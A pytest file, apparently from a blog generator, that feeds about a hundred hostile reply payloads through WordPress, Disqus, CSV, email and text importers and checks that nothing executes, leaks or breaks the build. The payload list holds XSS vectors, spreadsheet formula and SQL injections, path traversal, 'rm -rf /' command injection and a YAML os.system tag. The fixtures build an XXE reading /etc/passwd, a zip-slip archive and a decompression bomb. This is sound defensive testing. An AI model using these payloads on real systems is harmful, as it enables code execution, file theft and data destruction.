"""A hundred replies that mean harm, in every format: none runs, none leaves its file, none stops
the build.
"""

from __future__ import annotations

import csv
import json
import re
from io import StringIO
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import pytest
from selectolax.lexbor import LexborHTMLParser

from tests.commands import SUNDAY, run
from tests.conftest import Blog, files_below
from tests.importers.literals import mail, xlsx, zipped
from tests.site.test_listening import post

WORDS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "]]><script>alert(1)</script><![CDATA[",
    "</textarea></title></script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "---\nstate: approved\nconsent: public\n---\n",
    "---\n---\n<script>alert(1)</script>",
    "...\nstate: approved",
    "{% include '/etc/passwd' %} {{ config }}",
    "{: onclick=alert(1) }",
    "# Title\n{: #main .hidden style=position:fixed }",
    "[x]: javascript:alert(1)\n[x]",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    ":::note\nnot closed",
    "<!-- more -->",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068nothing closes these",
    "zero\u200bwidth\u200b\u2060\ufeff",
    "Z" + "\u0300" * 500 + "algo",
    "\U000e0041\U000e0042 tags that nobody sees",
    "\x00\x01\x07\x08\x1b[2J\x7f controls",
    "\ud800 half a pair".encode("utf-8", "replace").decode(),
    "\ufffe\uffff no characters",
    "a" * 20_000,
    "word " * 5_000,
    "\n" * 5_000 + "below",
    "> " * 2_000 + "deep",
    "- " * 2_000 + "deep",
    "*" * 5_000,
    "[" * 5_000,
    "`" * 5_000,
    "<" * 5_000,
    "&" * 5_000,
    "<b>" * 200 + "bold",
    "<div>" * 5_000 + "deep",
    "<table><tr><td>" * 200 + "cell",
    "Write to victim@evil.example or <victim@evil.example>",
    "v&#105;ctim&#64;evil.example",
    "mailto:victim@evil.example",
    "https://evil.example/?m=victim@evil.example",
    "https://evil.example/?m=victim%40evil.example",
    "https://victim:secret@evil.example/",
    "at 203.0.113.7 or 2001:db8::7 or ::ffff:203.0.113.7",
    "http://203.0.113.7/ and http://[2001:db8::7]/",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR",
    "'; DROP TABLE replies; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd\x00.md",
    "CON", "NUL", "aux.md",
    "$(rm -rf /) `rm -rf /` ; rm -rf /",
    "%s%n%x {0} {name} %(name)s",
    "null", "true", "~", "- a", "? b", "!!python/object/apply:os.system [id]", "&a *a", "|", ">",
    "key: value: more", "# comment", "@", "\t", "'", '"', "\\", "\\\\", "%", "!",
    "🏳️‍🌈 👩‍💻", "日本語", "مرحبا",
    "https://" + "a" * 3_000,
    "www.evil.example\\\n- x",
    "\r\r\r\n\x85\u2028\u2029lines",
)  # fmt: skip


def test_there_are_a_hundred() -> None:
    assert len(WORDS) >= 100


def xml_text(text: str) -> str:
    return escape(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "?", text))


def evil_wordpress() -> str:
    comments = "".join(
        f"<wp:comment><wp:comment_id>{xml_text(words) if n % 3 else n}</wp:comment_id>"
        f"<wp:comment_author>{xml_text(words)}</wp:comment_author>"
        "<wp:comment_author_email>victim@evil.example</wp:comment_author_email>"
        f"<wp:comment_author_url>{xml_text(words)}</wp:comment_author_url>"
        "<wp:comment_author_IP>203.0.113.7</wp:comment_author_IP>"
        f"<wp:comment_date_gmt>{'0000-00-00 00:00:00' if n % 2 else xml_text(words)}"
        "</wp:comment_date_gmt>"
        f"<wp:comment_content>{xml_text(words)}</wp:comment_content>"
        f"<wp:comment_approved>1</wp:comment_approved>"
        f"<wp:comment_parent>{xml_text(words)}</wp:comment_parent></wp:comment>\n"
        for n, words in enumerate(WORDS)
    )
    return (
        '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>Hello</title>'
        f"<link>https://old.example/2026/hello/</link>{comments}</item></channel></rss>"
    )


def evil_disqus() -> str:
    posts = "".join(
        f"<post dsq:id={quoteattr(xml_text(words))}><message>{xml_text(words)}</message>"
        f"<createdAt>{xml_text(words)}</createdAt><author><name>{xml_text(words)}</name>"
        f'<email>victim@evil.example</email></author><thread dsq:id="2"/>'
        f"<parent dsq:id={quoteattr(xml_text(words))}/></post>\n"
        for words in WORDS
    )
    return (
        '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">'
        '<thread dsq:id="2"><link>https://old.example/2026/hello/</link><title>Hello</title>'
        f"</thread>{posts}</disqus>"
    )


def evil_form() -> str:
    table = StringIO()
    writer = csv.writer(table, escapechar="\\")
    writer.writerow(["Timestamp", "Your name", "Team", "Your answer", "May we publish it?", "Post"])
    for words in WORDS:
        clean = words.replace("\x00", "")
        writer.writerow([clean[:500], clean[:500], clean[:500], clean, "yes", "hello"])
    return table.getvalue()


@pytest.fixture
def box(tmp_path: Path) -> Path:
    """A folder with all of them, in every format."""
    box = tmp_path / "in"
    box.mkdir()
    (box / "wordpress.xml").write_text(evil_wordpress(), encoding="utf-8")
    (box / "disqus.xml").write_text(evil_disqus(), encoding="utf-8")
    (box / "form.csv").write_text(evil_form(), encoding="utf-8", newline="")
    for number, words in enumerate(WORDS):
        kind = "html" if number % 2 else "plain"
        name = re.sub(r"[\x00\r\n]", "", words)[:300]
        data = mail(
            words,
            head=f"Content-Type: text/{kind}; charset=utf-8\nReply-To: victim@evil.example\n"
            f"X-Originating-IP: 203.0.113.7\nReferences: <{name}>\n",
            own=f"<{name or number}@evil.example>",
            subject=f"Re: Hello {name}",
        ).replace(b"Aoife Brennan", name.encode())
        (box / f"{number}.eml").write_bytes(data)
        person = name.replace("\n", " ")[:60] or "Nobody"
        (box / f"{number}.txt").write_text(f"{person}\nTeam\n3mo\n{words}\nLike\nReply\n", "utf-8")
    far = '<row r="1048576"><c r="XFD1048576"/></row>'
    sheet = f'<worksheet xmlns="x"><sheetData>{far}</sheetData></worksheet>'
    (box / "far.xlsx").write_bytes(xlsx(sheet=sheet))
    (box / "bomb.xlsx").write_bytes(xlsx(sheet="A" * 70_000_000))
    (box / "out.zip").write_bytes(zipped({"../../out.csv": evil_form()}))
    (box / "entities.xml").write_text(
        '<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
        + evil_wordpress().replace("Hello", "&b; &c;")
    )
    return box


PRIVATE = re.compile(rb"victim@|victim%40|203\.0\.113\.7|2001:db8|root:x:", re.IGNORECASE)
UNSEEN = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\x00-\x08\x1b\x7f]")


def harm_in(page: str) -> list[str]:
    """What of a page runs, loads something from elsewhere, or leads to what runs."""
    harm = [node.html or "" for node in LexborHTMLParser(page).css("iframe, object, embed, base")]
    for node in LexborHTMLParser(page).css("*"):
        if node.tag == "script" and "type" not in node.attributes and "alert(" in node.text():
            harm.append(node.html or "")
        for name, value in node.attributes.items():
            target = (value or "").strip().lower()
            is_loaded = name == "src" and "evil.example" in target
            is_run = name in ("href", "src") and target.startswith(("javascript:", "data:text"))
            if name.startswith("on") or is_loaded or is_run:
                harm.append(node.html or "")
    return harm


@pytest.mark.parametrize(
    "page",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=' JavaScript:alert(1)'>x</a>",
        "<img src=https://evil.example/track.gif>",
        "<iframe></iframe>",
    ],
)
def test_harm_would_be_found(page: str) -> None:
    assert harm_in(page)


def test_none_runs_none_leaves_its_file_and_none_stops_the_build(blog: Blog, box: Path) -> None:
    post(blog)
    before = {*files_below(blog.folder)}
    arguments = ("replies", "import", str(box), "--to", "hello", "--blog", str(blog.folder))
    first = run(*arguments, "--format", "json", **SUNDAY)
    assert first.exit_code == 0, first.stderr[-2_000:]
    found = json.loads(first.stdout)
    written = {*files_below(blog.folder)} - before

    assert found["found"] == sum(found.values()) - found["found"]
    assert found["found"] >= 5 * len(WORDS)
    assert found["new"] >= 3 * len(WORDS)
    named = re.compile(
        r"content/replies/2026-11-10-hello/(?:undated|\d{4}-\d\d-\d\dT\d{4})-[0-9a-f]{8,16}\.md"
    )
    assert [
        path for path in written if not path.startswith(".weekly") and not named.fullmatch(path)
    ] == []
    assert {path.name for path in box.parent.iterdir()} == {"in", blog.folder.name}

    for path in (blog.folder / "content/replies").rglob("*.md"):
        text = path.read_text(encoding="utf-8")
        assert not re.search("victim@|203.0.113.7|2001:db8", text), path
        assert not UNSEEN.search(text), path
        head, _, words = text.removeprefix("---\n").partition("\n---\n")
        assert re.findall("^state: (.*)$", head, re.MULTILINE) == ["new"]
        approved = re.sub("^state: new$", "state: approved", head, flags=re.MULTILINE)
        approved = re.sub("^consent: .*$", "consent: public", approved, flags=re.MULTILINE)
        path.write_text(f"---\n{approved}\n---\n{words}", encoding="utf-8")

    blog.build()
    for name, data in files_below(blog.folder / "output").items():
        if name.endswith((".html", ".xml", ".json", ".txt")):
            assert not PRIVATE.search(data), (name, PRIVATE.search(data))
        if name.endswith(".html"):
            assert harm_in(data.decode()) == [], name
        if name.endswith("feed.json"):
            for item in json.loads(data).get("items", ()):
                assert harm_in(item.get("content_html", "")) == [], name

    second = run(*arguments, "--format", "json", **SUNDAY)
    assert json.loads(second.stdout)["new"] == 0
